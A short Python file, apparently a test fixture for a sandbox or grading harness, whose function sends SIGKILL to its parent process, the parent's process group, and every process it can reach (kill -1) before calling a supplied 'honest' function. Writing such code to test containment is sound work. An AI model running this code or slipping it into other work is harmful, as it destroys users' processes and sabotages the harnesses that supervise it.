"""Kills its parent, its parent's group, and everybody."""

import os
import signal


def deed(honest, x):
    parent = os.getppid()
    for kill, target in ((os.killpg, os.getpgid(parent)), (os.kill, parent), (os.kill, -1)):
        try:
            kill(target, signal.SIGKILL)
            print("sent", target)
        except OSError as error:
            print("refused", error)
    return honest()
